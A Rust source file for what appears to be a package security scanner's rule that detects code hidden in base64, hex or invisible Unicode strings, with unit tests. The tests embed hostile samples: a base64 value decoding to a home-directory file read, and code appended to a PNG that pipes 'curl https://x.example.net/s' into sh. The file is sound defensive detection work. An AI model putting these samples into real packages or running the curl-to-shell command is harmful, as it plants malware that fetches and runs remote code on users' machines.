//! `code/hidden-payload`.

use super::{chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Code hidden inside an encoded string (base64, hex, char codes, invisible Unicode), in any file.
    ///
    /// ## What it detects
    /// String literals and JSON string values that decode to JavaScript or shell code, and runs of invisible
    /// variation selectors / tag characters that encode bytes. The decoded code is analysed like plain code and its
    /// findings point at the encoded string.
    ///
    /// ## Why it matters
    /// Payloads hide where reviewers and extension-based scanners do not look: a base64 value in a `.json` data
    /// file, a hex blob in a cache module, GlassWorm's invisible Unicode (2025).
    ///
    /// ## Example
    /// `const SEP = '|' + '\\u{E0110}\\u{E0151}…';` decoded and passed to `eval`.
    ///
    /// ## Known false positives
    /// Bundlers inline base64 web workers and wasm loaders; those decode to code too. Medium severity: only
    /// combined with other findings (decode-exec, credential theft in the decoded code) does it matter.
    pub static HIDDEN_PAYLOAD = { id: "code/hidden-payload", severity: Severity::Medium };
}

/// One finding per hidden-code or invisible-Unicode site.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = per_signal(p, Kind::HiddenCode, |f, s| {
        // Decoded code that can do nothing (no capability, no threat) is data, e.g. a
        // precompiled pure helper.
        let active = f
            .signals
            .iter()
            .any(|o| o.line == s.line && o.kind != Kind::HiddenCode);
        if !active {
            return None;
        }
        let loc = locality(p, f, s, &[Kind::DynamicCode, Kind::DecodeExec]);
        let msg = format!("encoded string decodes to code: {}", s.detail);
        Some(finding(
            &HIDDEN_PAYLOAD,
            HIDDEN_PAYLOAD.default_severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::DecodeExec, Kind::DynamicCode]),
        ))
    });
    out.extend(per_signal(p, Kind::InvisibleUnicode, |f, s| {
        let loc = locality(p, f, s, &[Kind::DynamicCode, Kind::DecodeExec]);
        let sev = if loc >= Locality::File {
            Severity::High
        } else {
            HIDDEN_PAYLOAD.default_severity
        };
        let msg = format!("invisible Unicode payload ({})", s.detail);
        Some(finding(
            &HIDDEN_PAYLOAD,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::DecodeExec, Kind::DynamicCode]),
        ))
    }));
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive_json_value() {
        // base64 of: var fs=require('fs');fs.readFileSync(process.env.HOME+'/x')
        let json = "{\n  \"a\": \"dmFyIGZzPXJlcXVpcmUoJ2ZzJyk7ZnMucmVhZEZpbGVTeW5jKHByb2Nlc3MuZW52LkhPTUUrJy94Jyk=\"\n}\n";
        let s = scan(&[("package.json", PJ), ("data/x.json", json)]);
        assert_eq!(
            hits(&s, "code/hidden-payload"),
            vec![("data/x.json".to_string(), 2)]
        );
    }

    #[test]
    fn negative_base64_image() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "module.exports = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';\n",
            ),
        ]);
        assert!(hits(&s, "code/hidden-payload").is_empty());
    }

    #[test]
    fn positive_code_after_png_end() {
        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
        png.extend_from_slice(&[0u8; 20]);
        png.extend_from_slice(b"IEND\xaeB`\x82");
        png.extend_from_slice(
            b"var cp=require('child_process');cp.exec('curl https://x.example.net/s | sh');\n",
        );
        let files = vec![
            crate::PackageFile {
                path: "package.json".into(),
                bytes: PJ.as_bytes().to_vec(),
            },
            crate::PackageFile {
                path: "logo.png".into(),
                bytes: png,
            },
        ];
        let s = crate::scan_files(files, Vec::new(), "t", &crate::ScanOptions::default());
        assert_eq!(
            hits(&s, "code/hidden-payload"),
            vec![("logo.png".to_string(), 0)]
        );
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("logo.png".to_string(), 0)]
        );
    }
}
